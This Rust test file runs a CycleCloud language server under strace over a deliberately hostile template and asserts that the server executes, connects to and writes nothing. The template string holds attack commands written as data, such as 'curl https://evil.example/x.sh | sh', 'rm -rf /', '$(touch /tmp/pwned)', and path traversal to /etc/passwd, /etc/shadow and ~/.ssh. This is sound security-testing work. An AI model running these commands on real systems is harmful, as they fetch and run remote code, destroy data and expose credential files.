//! What the server does to the machine, proved with `strace` on the real binary through a whole
//! session over hostile templates (`$(rm -rf ~)`, backticks, URLs, cluster-init specs and
//! `ClusterInitSpecs` with `..`): after its own `execve` it executes nothing, opens no socket,
//! opens nothing for writing and creates, renames or deletes nothing; the only files it looks
//! at outside the workspace folder are its own libraries, `/proc` and `/sys` runtime files and
//! `.cyclecloud-lsp.toml` in the folders above a template (the settings lookup walks up from
//! each template's folder to the first config file). Skipped, with a message, without strace
//! (`scripts/fuzz-smoke` installs it in CI).

use std::path::{Path, PathBuf};
use std::process::Command;

use cyclecloud_e2e::lsp::LspClient;
use serde_json::{json, Value};

const HOSTILE: &str = r#"# $(rm -rf ~) `curl https://evil.example/x.sh | sh` ; wget http://10.0.0.1/
[cluster $(rm -rf /)]
    [[node defaults]]
    ImageName = $(reboot)
    CloudInit = '''#!/bin/bash
curl -fsSL https://evil.example/install.sh | sudo bash
rm -rf /
'''
    ClusterInitSpecs = ../../../../etc/passwd
    Azure.Publisher = `id`
    [[[cluster-init ../../../../etc:default:1.0.0]]]
    Project = ../../../../../../root/.ssh
    [[[cluster-init https://evil.example/spec:default:1.0.0]]]
    [[[configuration]]]
    cyclecloud.mounts.x.url = file:///etc/shadow
    [[nodearray x]]
    Extends = ../../../../etc/hosts
    KeyPairLocation = ~/.ssh/id_rsa.pub
    Credentials = ${system("rm -rf /")}
"#;

/// Creates the workspace: `a/` with a config file, `b/` without (its lookup walks to `/`).
fn workspace() -> PathBuf {
    let root = std::env::temp_dir().join(format!("cyclecloud-lsp-sandbox-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    for project in ["a", "b"] {
        std::fs::create_dir_all(root.join(project).join("templates")).unwrap();
        std::fs::write(root.join(project).join("templates/hostile.txt"), HOSTILE).unwrap();
    }
    std::fs::write(
        root.join("a/.cyclecloud-lsp.toml"),
        "cyclecloud-version = \"8.7.0\"\n",
    )
    .unwrap();
    root.canonicalize().unwrap()
}

/// One traced system call: its name and the first quoted path among its arguments.
struct Call {
    line: String,
    name: String,
    path: Option<String>,
}

fn parse(line: &str) -> Option<Call> {
    // `PID name(args...` or `PID <... name resumed>...` (the args are on the unfinished line).
    let rest = line.split_once(' ')?.1.trim_start();
    if rest.starts_with("<...") || rest.starts_with("+++") || rest.starts_with("---") {
        return None;
    }
    let name = rest.split('(').next()?.to_owned();
    let path = rest.split('"').nth(1).map(str::to_owned);
    Some(Call {
        line: line.to_owned(),
        name,
        path,
    })
}

/// Runtime files any program opens: the dynamic loader's, its libraries, /proc and /sys.
fn is_runtime_file(path: &str, binary: &Path) -> bool {
    path == binary.to_str().unwrap()
        || path.is_empty()
        || [
            "/etc/ld.so.",
            "/lib/",
            "/lib64/",
            "/usr/lib/",
            "/usr/lib64/",
            "/proc/",
            "/sys/",
            "/dev/null",
        ]
        .iter()
        .any(|prefix| path.starts_with(prefix))
}

fn is_config_lookup_above(path: &str, workspace: &Path) -> bool {
    let path = Path::new(path);
    path.file_name()
        .is_some_and(|name| name == ".cyclecloud-lsp.toml")
        && path.parent().is_some_and(|dir| workspace.starts_with(dir))
}

#[test]
fn a_session_over_hostile_templates_executes_connects_and_writes_nothing() {
    if Command::new("strace").arg("-V").output().is_err() {
        eprintln!("skipped: strace is not installed (scripts/fuzz-smoke installs it)");
        return;
    }
    let binary = cyclecloud_e2e::binary();
    let root = workspace();
    let log = root.with_extension("strace");
    let mut client = LspClient::start_command(
        Command::new("strace")
            // Cargo's library path for tests only sends the loader looking in more folders.
            .env_remove("LD_LIBRARY_PATH")
            .args([
                "-f",
                "-qq",
                "-s",
                "4096",
                "-e",
                "trace=process,network,file",
                "-o",
            ])
            .arg(&log)
            .arg(binary),
    );
    let root_uri = format!("file://{}", root.display());
    client.configuration = json!([{ "cyclecloudVersion": "8.6.0" }]);
    let response = client.request(
        "initialize",
        json!({ "processId": null, "rootUri": root_uri,
                "workspaceFolders": [{ "uri": root_uri, "name": "w" }],
                "capabilities": { "workspace": { "configuration": true } } }),
    );
    assert!(response["result"].is_object(), "{response}");
    client.notify("initialized", json!({}));
    for project in ["a", "b"] {
        let uri = format!("{root_uri}/{project}/templates/hostile.txt");
        client.open(&uri, 1, HOSTILE);
        client.diagnostics_for(&uri, 1);
        client.notify(
            "textDocument/didChange",
            json!({ "textDocument": { "uri": uri, "version": 2 },
                    "contentChanges": [{ "range": { "start": { "line": 3, "character": 17 }, "end": { "line": 3, "character": 17 } },
                                         "text": "$(touch /tmp/pwned) ../../x https://evil.example/" }] }),
        );
        client.diagnostics_for(&uri, 2);
        for (line, character) in [(3, 20), (9, 24), (10, 30), (15, 30), (17, 16), (19, 30)] {
            let position = json!({ "line": line, "character": character });
            let params = json!({ "textDocument": { "uri": uri }, "position": position });
            client.request("textDocument/hover", params.clone());
            client.request("textDocument/completion", params);
        }
    }
    client.notify(
        "workspace/didChangeConfiguration",
        json!({ "settings": Value::Null }),
    );
    let (code, stderr) = client.shutdown_and_exit();
    assert_eq!(code, 0, "{stderr}");

    let trace = std::fs::read_to_string(&log).expect("strace wrote its log");
    let calls: Vec<Call> = trace.lines().filter_map(parse).collect();
    assert!(calls.len() > 10, "strace traced too little:\n{trace}");
    let mut problems = Vec::new();
    let writes = ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_APPEND"];
    let mutating = [
        "creat",
        "unlink",
        "unlinkat",
        "rename",
        "renameat",
        "renameat2",
        "mkdir",
        "mkdirat",
        "rmdir",
        "truncate",
        "link",
        "linkat",
        "symlink",
        "symlinkat",
        "chmod",
        "fchmodat",
        "chown",
        "fchownat",
        "lchown",
        "utimensat",
        "mknod",
        "mknodat",
    ];
    let network = [
        "socket",
        "socketpair",
        "connect",
        "bind",
        "listen",
        "accept",
        "accept4",
        "sendto",
        "sendmsg",
        "sendmmsg",
        "recvfrom",
        "recvmsg",
        "recvmmsg",
    ];
    for (index, call) in calls.iter().enumerate() {
        let name = call.name.as_str();
        if name.starts_with("exec") && index > 0 {
            problems.push(format!("executes: {}", call.line));
        }
        if ["fork", "vfork"].contains(&name) {
            problems.push(format!("forks: {}", call.line));
        }
        if network.contains(&name) {
            problems.push(format!("network: {}", call.line));
        }
        if mutating.contains(&name) {
            problems.push(format!("changes the file system: {}", call.line));
        }
        if name.starts_with("open") && writes.iter().any(|flag| call.line.contains(flag)) {
            problems.push(format!("opens for writing: {}", call.line));
        }
        if let Some(path) = &call.path {
            let inside = Path::new(path).starts_with(&root);
            // Canonicalising the workspace folder reads the links of its own ancestors, and
            // getcwd's path is its answer, not something read.
            let resolving_root = (name == "readlink" && root.starts_with(path)) || name == "getcwd";
            if !inside
                && !resolving_root
                && !is_runtime_file(path, binary)
                && !is_config_lookup_above(path, &root)
            {
                problems.push(format!("looks outside the workspace: {}", call.line));
            }
        }
    }
    assert!(
        calls[0].name == "execve",
        "the trace starts with the server's execve: {}",
        calls[0].line
    );
    // The lookup did walk above the workspace for `b/` (so the rule above is exercised) and
    // stopped at `a/.cyclecloud-lsp.toml` for `a/`.
    assert!(
        trace.contains("\"/.cyclecloud-lsp.toml\""),
        "the settings lookup for b/ reached /"
    );
    assert!(
        trace.contains(&format!("\"{}/a/.cyclecloud-lsp.toml\"", root.display())),
        "the settings lookup for a/ found its config file"
    );
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    let _ = std::fs::remove_dir_all(&root);
    let _ = std::fs::remove_file(&log);
}
